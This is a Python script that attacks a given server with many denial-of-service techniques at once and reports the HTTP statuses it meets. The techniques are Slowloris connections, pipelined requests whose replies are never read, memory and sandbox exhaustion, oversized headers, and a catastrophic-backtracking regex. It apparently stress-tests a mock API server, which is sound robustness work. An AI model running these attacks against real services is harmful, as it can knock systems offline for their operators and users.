"""Attack a server with everything that can make it slow or large, at once: ``python attack.py BASE_URL``.

Prints, as JSON, how often each attack met each status.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections import Counter, defaultdict
from itertools import islice
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping

    Call = tuple[str, str, Mapping[str, str], bytes]

ORDER = "/api/v2/orders/72544"
JSON = {"Content-Type": "application/json"}


class Attack:
    """The attackers, each with connections of its own; they go on until all have done their work once."""

    def __init__(self, url: str) -> None:
        self._address = urlsplit(url)
        self._writers: list[asyncio.StreamWriter] = []
        self.statuses: defaultdict[str, Counter[int]] = defaultdict(Counter)

    async def run(self) -> None:
        """Start all, and wait for those that end by themselves."""
        ending = [self._fill_sandboxes(), self._fill_memory(), self._fill_journal(), self._look(), self._match()]
        lasting = [self._send_slowly(), self._send_without_reading(), self._ask_without_reading()]
        tasks = [asyncio.create_task(attack) for attack in lasting]
        await asyncio.gather(*ending)
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        for writer in self._writers:
            writer.transport.abort()
        await asyncio.gather(*(writer.wait_closed() for writer in self._writers), return_exceptions=True)

    async def _connections(self, count: int) -> list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        made = [await asyncio.open_connection(self._address.hostname, self._address.port) for _ in range(count)]
        self._writers += [writer for _, writer in made]
        return made

    async def _send_slowly(self) -> None:
        """Slowloris: heads that never end."""
        writers = [writer for _, writer in await self._connections(100)]
        while True:
            for writer in writers:
                if not writer.is_closing():
                    writer.write(b"X")
            await asyncio.sleep(0.05)

    async def _send_without_reading(self) -> None:
        """Pipeline calls, each with a body, and take no reply."""
        call = f"DELETE /~pipe{ORDER} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000\r\n\r\n".encode() + b"y" * 1000

        async def attack(writer: asyncio.StreamWriter) -> None:
            while not writer.is_closing():
                writer.write(call * 100)
                await writer.drain()

        await asyncio.gather(*(attack(writer) for _, writer in await self._connections(10)))

    async def _ask_without_reading(self) -> None:
        """Ask for the largest page that there is, again and again, and take none of it."""
        ask = f"GET /~journal/_rescind/journal?limit=10000 HTTP/1.1\r\nHost: {self._address.netloc}\r\n\r\n".encode()
        writers = [writer for _, writer in await self._connections(10)]
        while True:
            for writer in writers:
                if not writer.is_closing():
                    writer.write(ask)
            await asyncio.sleep(0.2)

    async def _fill_sandboxes(self) -> None:
        """Use 6,000 sandboxes once each."""
        await self._send("sandboxes", (("DELETE", f"/~s{n}{ORDER}", {}, b"") for n in range(6_000)), at_once=50)

    async def _fill_memory(self) -> None:
        """Put 80 MB of records into many sandboxes."""
        record = json.dumps({"name": "z" * 200_000}).encode()
        paths = (f"/~m{n}/_rescind/state/exsited/orders/a" for n in range(400))
        await self._send("memory", (("PUT", path, JSON, record) for path in paths))

    async def _fill_journal(self) -> None:
        """Send large heads, and large values that break a rule of the document."""
        wrong = json.dumps({"grant_type": "wrong " * 100_000}).encode()
        head = {"X-Large": "a=b&" * 14_000, "Authorization": "Bearer " + "t" * 5_000}
        calls: list[Call] = [
            ("POST", "/~journal/api/v1/oauth2/token", JSON, wrong),
            ("DELETE", f"/~journal{ORDER}", head, b""),
        ]
        await self._send("journal", (calls[n % 2] for n in range(300)))

    async def _look(self) -> None:
        """Ask for the journal and its archive, and read them."""
        for _ in range(3):
            paths = ("/~journal/_rescind/journal", "/~journal/_rescind/journal.har", "/~journal/_rescind/state/exsited")
            await self._send("look", (("GET", path, {}, b"") for path in paths))

    async def _match(self) -> None:
        """Match with expressions that take exponential time where they are tried one way after the other."""
        evil = {"match": {"parameters": {"orderId": {"matches": "(a|a)*(a|a)*(a|a)*$"}}}, "count": 0}
        body = json.dumps(evil).encode()
        await self._send("match", (("POST", "/~journal/_rescind/journal/verify", JSON, body) for _ in range(20)))

    async def _send(self, name: str, calls: Iterable[Call], at_once: int = 1) -> None:
        """Send the calls over one connection, so many ahead of their replies, and note the statuses."""
        ((reader, writer),) = await self._connections(1)
        waiting = iter(calls)
        while batch := [self._bytes(*call) for call in islice(waiting, at_once)]:
            writer.write(b"".join(batch))
            for _ in batch:
                head = (await reader.readuntil(b"\r\n\r\n")).lower()
                self.statuses[name][int(head[9:12])] += 1
                await _read_body(reader, head)

    def _bytes(self, method: str, path: str, headers: Mapping[str, str], body: bytes) -> bytes:
        fields = {"Host": self._address.netloc, "Content-Length": str(len(body)), **headers}
        lines = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
        return f"{method} {path} HTTP/1.1\r\n{lines}\r\n".encode() + body


async def _read_body(reader: asyncio.StreamReader, head: bytes) -> None:
    length = re.search(rb"content-length: (\d+)", head)
    if length:
        await reader.readexactly(int(length[1]))
    while b"transfer-encoding: chunked" in head:
        size = int(await reader.readline(), 16)
        await reader.readexactly(size + 2)
        if size == 0:
            return


async def main(url: str) -> None:
    """Attack, and print what was met."""
    attack = Attack(url)
    await attack.run()
    print(json.dumps(attack.statuses))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1]))
